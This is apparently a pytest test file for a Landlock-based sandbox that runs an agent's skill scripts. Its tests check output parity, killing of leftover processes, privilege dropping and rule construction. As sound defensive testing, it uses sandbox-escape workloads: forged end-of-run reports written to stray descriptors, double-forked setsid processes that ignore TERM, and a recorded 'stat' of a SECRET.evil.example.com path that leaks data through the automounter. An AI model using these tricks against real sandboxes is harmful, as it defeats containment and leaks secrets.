"""The landlock level beyond the conformance suite: what it reports, the supervisor, the interpreter it reuses."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import time
import venv
from pathlib import Path

import psutil
import pytest

from adk_skills_agent.errors import SandboxError
from adk_skills_agent.sandbox.contract import ExecutionRequest, Network, ReadOnlyMount, SandboxPolicy
from adk_skills_agent.sandbox.local import local_sandbox
from adk_skills_agent.sandbox.local.kernel import landlock
from adk_skills_agent.sandbox.local.levels import landlock as level
from adk_skills_agent.sandbox.local.levels.landlock import LandlockLevel, landlock_report
from adk_skills_agent.sandbox.process.command import OWN_IDS

pytestmark = pytest.mark.usefixtures("needs_landlock", "nothing_left")

PYTHON = (sys.executable, "-s", "-B", "-X", "utf8")


def policy(**settings: object) -> SandboxPolicy:
    return SandboxPolicy(**{"isolation": "landlock", "wall_seconds": 20.0} | settings)  # type: ignore[arg-type]


@pytest.fixture
def skill(tmp_path: Path) -> Path:
    folder = tmp_path / "skill"
    (folder / "scripts").mkdir(parents=True)
    (folder / "scripts" / "sibling.py").write_text("NAME = 'sibling'\n")
    return folder


async def run_script(skill: Path, code: str, *arguments: str, python: tuple[str, ...] = PYTHON, **settings: object):
    (skill / "scripts" / "main.py").write_text(code)
    request = ExecutionRequest(
        (*python, "/skill/scripts/main.py", *arguments),
        policy(**settings),
        mounts=(ReadOnlyMount(skill),),
    )
    return await local_sandbox().run(request)


PROGRAMS = {
    "a result": "print('hello')",
    "an error": "def f():\n    return 1 / 0\nf()",
    "an error in a chain": "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    raise KeyError('x') from e",
    "a syntax error": "def f(:\n",
    "exit with a number": "import sys; sys.exit(5)",
    "exit with a text": "import sys; sys.exit('sorry')",
    "exit with nothing": "import sys; sys.exit()",
    "an interrupt": "raise KeyboardInterrupt",
    "a signal": "import os, signal; os.kill(os.getpid(), signal.SIGTERM)",
    "its names": "print(__name__, __file__, __package__, __spec__, __doc__, sorted(vars()))",
    "its arguments": "import sys; print(sys.argv, sys.path[0])",
    "a sibling": "import sibling; print(sibling.NAME)",
    "itself as main": "import __main__; x = 3; print(__main__.x, __main__.__loader__.__class__.__name__)",
    "its end": "import atexit; atexit.register(print, 'at exit'); import threading\n"
    "threading.Thread(target=lambda: print('thread')).start()",
    "site": "print(exit, help, sorted(m for m in ('site', 'os') if m in __import__('sys').modules))",
    "its environment": "import os; print(sorted(set(os.environ) - {'PWD', 'GIT_CONFIG_NOSYSTEM', 'GHCRTS'}))\n"
    "print(os.environ['LANG'])",
    "a pickle of its own class": "import pickle\nclass A: pass\nprint(type(pickle.loads(pickle.dumps(A()))).__name__)",
    "a data class": "from __future__ import annotations\nimport dataclasses as d\n@d.dataclass\nclass A:\n    x: int\n"
    "print(A(1))",
    "a worker that is started anew": "import multiprocessing as m\ndef f(x): return x + 1\n"
    "if __name__ == '__main__':\n    c = m.get_context('spawn'); q, w = c.Pipe()\n    print('spawned')",
}


@pytest.mark.parametrize("code", PROGRAMS.values(), ids=PROGRAMS.keys())
async def test_a_script_sees_the_same_python_as_without_a_sandbox(skill, code):
    confined = await run_script(skill, code, "one", "-two")
    plain = await run_script(skill, code, "one", "-two", isolation="process", min_isolation="process")
    assert (confined.stdout, confined.stderr) == (plain.stdout, plain.stderr)
    assert (confined.exit_code, confined.signal) == (plain.exit_code, plain.signal)


async def test_variables_an_interpreter_reads_at_its_start_are_heard_because_it_is_started_anew(skill):
    code = "import os, sys; print(os.environ['PYTHONHASHSEED'], sys.flags.hash_randomization, sys.flags.isolated)"
    assert (await run_script(skill, code, env={"PYTHONHASHSEED": "0"})).stdout == b"0 0 0\n"


async def test_the_end_is_reported_out_of_band(skill):
    code = """
import os
for descriptor in range(3, 100):
    try:
        os.write(descriptor, b"ended 0 0 0 0\\n")
    except OSError:
        pass
os._exit(9)
"""
    result = await run_script(skill, code)
    assert (result.exit_code, result.signal) == (9, None)


async def test_a_command_that_cannot_be_executed_is_an_error_of_the_sandbox(skill):
    tool = skill / "tool"
    tool.write_bytes(b"\x7fELF\0 not really")
    tool.chmod(0o755)
    with pytest.raises(SandboxError, match="'/skill/tool' could not be started: Exec format error"):
        await local_sandbox().run(ExecutionRequest(("/skill/tool",), policy(), mounts=(ReadOnlyMount(skill),)))


async def test_what_a_run_leaves_behind_is_ended_and_counted(skill):
    code = """
import os, time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setsid()
            os.closerange(0, 100)
            time.sleep(60)
        os._exit(0)
time.sleep(0.2)
print("done")
"""
    result = await run_script(skill, code)
    assert (result.stdout, result.processes_killed, result.survivors) == (b"done\n", 3, 0)


def test_row_31_nothing_of_a_run_is_alive_a_second_after_the_agent_was_killed(tmp_path):
    agent = """
import asyncio, sys
from adk_skills_agent.sandbox.contract import ExecutionRequest, SandboxPolicy
from adk_skills_agent.sandbox.local import local_sandbox
code = "setsid sleep {0} & (setsid setsid sleep {0} &) ; trap '' TERM HUP; echo up; sleep {0}".format(sys.argv[1])
request = ExecutionRequest(("bash", "-c", code), SandboxPolicy(isolation="landlock", wall_seconds=60),
                           on_output=lambda stream, chunk: print("up", flush=True))
asyncio.run(local_sandbox().run(request))
"""
    environment = {**os.environ, "TMPDIR": str(tmp_path)}
    process = subprocess.Popen([sys.executable, "-c", agent, NAP], stdout=subprocess.PIPE, env=environment)
    try:
        assert process.stdout is not None
        assert process.stdout.readline() == b"up\n"
        deadline = time.monotonic() + 30
        while len(sleepers()) < 3 and time.monotonic() < deadline:
            time.sleep(0.01)
        assert len(sleepers()) == 3
        process.send_signal(signal.SIGKILL)
    finally:
        process.kill()
        process.wait()
        process.stdout.close()
    deadline = time.monotonic() + 30  # a second where nobody else wants the processors
    while sleepers() and time.monotonic() < deadline:
        time.sleep(0.01)
    assert sleepers() == []


NAP = f"61.{os.getpid()}"
"""Seconds, by which this process knows its own."""


def sleepers() -> list[int]:
    return [
        process.pid
        for process in psutil.process_iter(["cmdline", "status"])
        if process.info["cmdline"] == ["sleep", NAP] and process.info["status"] != psutil.STATUS_ZOMBIE
    ]


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give up its user id")
async def test_a_run_of_root_is_another_user_with_nothing_but_the_right_to_look(skill):
    code = "import os; print(os.getresuid(), os.getgroups()); print(os.listdir('.')); open('new', 'w')"
    result = await run_script(skill, code)
    ids, _, rest = result.stdout.partition(b"\n")[0].partition(b")")
    real, effective, saved = map(int, ids.strip(b"(").split(b", "))
    assert (real, effective, saved, rest) == (real, real, real, b" []")
    assert real in OWN_IDS
    code = """
import ctypes, os
libc = ctypes.CDLL(None)
header, data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
libc.capget(header, data)
print(list(data), os.system("exit 3") >> 8)
"""
    assert (await run_script(skill, code)).stdout == b"[4, 4, 4, 0, 0, 0] 3\n"
    assert (await run_script(skill, "import os; print(os.getuid())", run_as=12346)).stdout == b"12346\n"


@pytest.mark.skipif(os.geteuid() != 0, reason="only a run of root can reach what is in a private folder")
async def test_a_shell_finds_the_interpreter_in_a_folder_that_only_root_may_enter(tmp_path):
    """bash asks with ``access()``, for which the kernel takes away the capability of a user that is not root."""
    venv.create(tmp_path / "venv", with_pip=False, symlinks=True)
    (tmp_path / "venv").chmod(0o700)
    python = str(tmp_path / "venv" / "bin" / "python3")
    request = ExecutionRequest(
        ("bash", "-c", "command -v python3; python3 -c 'import sys; print(sys.prefix)'"), policy(python=python)
    )
    result = await local_sandbox().run(request)
    assert result.stdout.decode().split() == [python, str(tmp_path / "venv")], result.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="only then the run owns nothing but its workspace")
async def test_a_run_of_root_may_change_the_modes_of_its_own_files(skill):
    code = (
        "import os; open('tool', 'w').write('#!/bin/sh\\necho mine\\n'); os.chmod('tool', 0o755); os.system('./tool')"
    )
    assert (await run_script(skill, code)).stdout == b"mine\n"


def test_what_the_level_cannot_do_is_refused():
    def refusal_of(policy: SandboxPolicy) -> str | None:
        return LandlockLevel().refusal(ExecutionRequest(("true",), policy), policy)

    assert refusal_of(policy()) is None
    assert refusal_of(policy(network=Network.host())) is None
    assert "network namespace" in str(refusal_of(policy(network=Network.loopback())))
    assert "network namespace" in str(refusal_of(policy(network=Network.allow("example.org"))))
    assert "root" in str(refusal_of(policy(run_as=0)))


@pytest.mark.parametrize("version", range(1, 8))
def test_the_rules_and_the_report_fit_every_version_of_landlock(version, tmp_path):
    rules = landlock.ruleset(version, read_only=["/usr/bin"], read_write=[str(tmp_path)])
    known = {1: 13, 2: 14, 3: 15, 4: 15}.get(version, 16)
    handled = int.from_bytes(rules.attributes[:8], sys.byteorder)
    assert handled == (1 << known) - 1
    assert len(rules.attributes) == {1: 8, 2: 8, 3: 8, 4: 16, 5: 16}.get(version, 24)
    assert all(access and access & ~handled == 0 for _, access in rules.rules)
    assert not any(access & (landlock.MAKE_CHAR | landlock.MAKE_BLOCK) for _, access in rules.rules)
    writable = [path for path, access in rules.rules if access & landlock.WRITE_FILE]
    assert writable == [b"/dev/null", b"/dev/zero", b"/dev/full", os.fsencode(tmp_path)]
    said = " ".join(landlock_report(policy(), version).degraded)
    assert ("truncate()" in said) == (version < 3)
    assert ("within one folder" in said) == (version < 2)
    assert ("signalled" in said) == (version < 6)
    assert "where a link leads can be seen" in said
    assert (rules.flags == landlock.LOG_SAME_EXEC_OFF) == (version >= 7)  # row 252: the audit log is the machine's


def test_the_systems_folders_are_readable_but_not_what_may_be_an_application():
    paths = {path for path, _ in landlock.ruleset(7, read_only=(), read_write=()).rules}
    assert b"/usr/bin" in paths
    assert not paths & {b"/", b"/usr", b"/usr/local", b"/usr/src", b"/etc", b"/home", b"/root", b"/tmp", b"/proc"}


def test_older_versions_of_landlock_still_protect_what_they_can(skill):
    """The rules of each version are accepted by this kernel, and a run under them works and is contained."""
    from adk_skills_agent.sandbox.local.levels.landlock import ConfinedRun, trial

    for version in range(1, landlock.abi() + 1):

        def make(request, limits, version=version):
            return ConfinedRun(request, limits, version)

        assert trial(make) is None


def test_the_problem_of_a_level_is_found_once_per_process():
    assert LandlockLevel().problem() is None
    began = time.thread_time()
    for _ in range(1000):
        LandlockLevel().problem()
    assert time.thread_time() - began < 1


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("setpriv") is None, reason="takes a capability of root away")
def test_row_298_the_report_names_folders_that_are_mounted_from_elsewhere_when_somebody_looks(tmp_path):
    """Seen: ``stat("/net/SECRET.evil.example.com/")`` had the host's automounter look that name up."""
    table = tmp_path / "mounts"
    table.write_text(
        "/dev/vda / ext4 rw 0 0\n"
        "-hosts /net autofs rw,fd=7,pgrp=1,timeout=300,minproto=5,maxproto=5,indirect,pipe_ino=9 0 0\n"
        "systemd-1 /boot autofs rw,fd=8,timeout=120,minproto=5,maxproto=5,direct,pipe_ino=8 0 0\n"
        "none /afs afs rw,dyn 0 0\n"
    )
    assert level._mounting_folders(str(table)) == ("/net", "/afs")
    assert level._mounting_folders(str(tmp_path / "missing")) == ()


def test_row_340_an_agent_that_cannot_see_what_runs_hold_has_no_such_level():
    """Seen: 1.5 GiB of files in memory with a limit of 256 MiB, ``ok``: no descriptor of the run could be read."""
    code = (
        "from adk_skills_agent.sandbox.local.levels.base import local_levels\n"
        "[level] = [one for one in local_levels() if one.level == 'landlock']\n"
        "print(level.problem())"
    )
    for drop, told in (("-sys_ptrace", "CAP_SYS_PTRACE"), ("-net_raw", "None")):
        without = ["setpriv", f"--bounding-set={drop}", "--inh-caps=-all", sys.executable, "-c", code]
        said = subprocess.run(without, capture_output=True, text=True, check=True)
        assert told in said.stdout, said


def test_row_408_data_of_the_users_programs_is_no_part_of_a_python_in_local():
    shown = landlock.python_folders(["/home/a/.local/", "/home/a/.local", "/opt/python"])
    assert "/home/a/.local/bin" in shown
    assert "/opt/python/share" in shown
    assert "/home/a/.local/share" not in shown
